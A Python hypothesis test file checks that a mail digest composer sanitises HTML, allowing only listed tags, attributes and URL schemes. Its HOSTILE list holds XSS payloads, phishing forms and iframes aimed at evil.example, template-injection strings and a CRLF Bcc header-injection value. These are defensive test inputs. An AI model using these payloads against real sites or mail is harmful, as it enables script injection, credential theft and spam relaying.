"""Promise 10: nothing active reaches a mail, whatever people write."""

from __future__ import annotations

from functools import cache
from urllib.parse import urlsplit

from hypothesis import example, given, settings
from hypothesis import strategies as st
from lxml import html
from mail.editions import URL, composer, edition, entry
from support import lasting_folder, soak

from feeder.config.settings import MailingList
from feeder.mail.compose import Composer
from feeder.mail.compose.content import for_mail
from feeder.mail.compose.wording import ZH
from feeder.mail.message import encoding
from feeder.mail.values import Rendered
from feeder.model import Enclosure, Image, Via

NAMES = (
    "html head meta title style body div table tbody thead tfoot tr td th p h1 h2 h3 h4 h5 h6 a img br hr wbr ol ul li "
    "strong b em i u s del ins sub sup small code pre kbd samp var cite dfn abbr mark blockquote dl dt dd caption span "
    "bdi bdo"
)
ELEMENTS = frozenset(NAMES.split())
ATTRIBUTE_NAMES = (
    "lang dir charset name content class role width height cellpadding cellspacing border align style href src alt "
    "colspan rowspan scope start reversed type value title data-css-inline aria-label tabindex"
)
ATTRIBUTES = frozenset(ATTRIBUTE_NAMES.split())
HOSTILE = (
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>">x</a>',
    '<img src="javascript:alert(1)" onload=x><svg/onload=alert(1)>',
    '<p style="background:url(javascript:alert(1))" onclick="x">y</p>',
    "<iframe src=//evil.example></iframe><object data=x><embed src=x>",
    "<form action=https://evil.example><input name=password><button>ok",
    "<base href=https://evil.example/><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
    "<math><mtext><table><mglyph><style><!--</style><img title=--><img src=1 onerror=alert(1)>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<td align='left\" onclick=\"x'>",
    "\x02unsubscribe\x03 \x02name\x03",
    "{{ site.__class__ }}{% raw %}{# x #}",
    "&#x3c;script&#x3e;&lt;script&gt;&amp;lt;",
    "<plaintext><xmp><textarea>",
    "\r\nBcc: all@example.org",
)
WORDS = st.one_of(
    st.sampled_from(HOSTILE), st.text(max_size=80), st.tuples(*[st.sampled_from(HOSTILE)] * 2).map("".join)
)


@cache
def desk() -> Composer:
    return composer(lasting_folder())


def digest(word: str, text: str) -> Rendered:
    one = entry(
        title=word, summary=word, html=text, correction=word, tags=(word or "x",), authors=(word,), language="zh-CN",
        url=f"https://news.example.org/{word}", via=(Via(word, word), Via("https://a.example/" + word, "")),
        cover=Image(word, word), enclosures=(Enclosure("https://a.example/x.mp3", "audio/mpeg", 1, word),),
    )  # fmt: skip
    news = edition(one, entry(2, title=word), entry(3), corrections=(one,), preface=text, subject=word, page_url=word)
    return desk().digest(MailingList(name="x", title=word, description=word), news)


def is_harmless(text: str) -> bool:
    document = html.document_fromstring(text)
    for element in document.iter():
        if not isinstance(element.tag, str):
            assert "<!--[if mso]><table role" in html.tostring(element, encoding="unicode") or "<![endif]" in str(
                element
            )
            continue
        assert element.tag in ELEMENTS, element.tag
        assert set(element.keys()) <= ATTRIBUTES, element.attrib
        for name in ("href", "src"):
            address = element.get(name, "https:")
            assert urlsplit(address.lower()).scheme in ("https", "http", "mailto", "") or address[0] == "\x02"
            assert not address.strip().lower().startswith(("javascript", "data:", "vbscript", "//"))
        assert "url(" not in element.get("style", "")
    return True


@settings(max_examples=soak(60, 3000), deadline=None)
@given(WORDS, WORDS)
@example(HOSTILE[0], HOSTILE[1])
def test_nothing_active_reaches_a_mail(word: str, text: str) -> None:
    made = digest(word, text)
    assert is_harmless(made.html)
    document = html.document_fromstring(made.html)
    assert len(list(document.iter("style"))) == 1
    assert len(list(document.iter("table"))) - len(list(document.iterfind(".//div[@class='scroll']"))) == 5
    # Nobody makes a hole but the templates.
    assert made.html.count("\x02") == made.text.count("\x02") == 3
    assert encoding.holes_of(made.html) == {"unsubscribe", "preferences", "address"}
    assert len(made.subject.splitlines()) == 1


@given(WORDS)
@settings(max_examples=soak(200, 20_000), deadline=None)
def test_any_html_is_made_anew(text: str) -> None:
    assert is_harmless(f"<html><body>{for_mail(text, ZH, URL)}</body></html>")


def test_every_hostile_text_alone() -> None:
    for text in HOSTILE:
        assert is_harmless(f"<html><body>{for_mail(text, ZH, URL)}</body></html>"), text
        assert is_harmless(digest(text, text).html), text


@given(WORDS)
@settings(max_examples=soak(30, 2000), deadline=None)
def test_a_language_that_is_none_harms_nobody(language: str) -> None:
    made = desk().digest(MailingList(name="x"), edition(entry(language=language), entry(2), language=language or "en"))
    assert is_harmless(made.html)
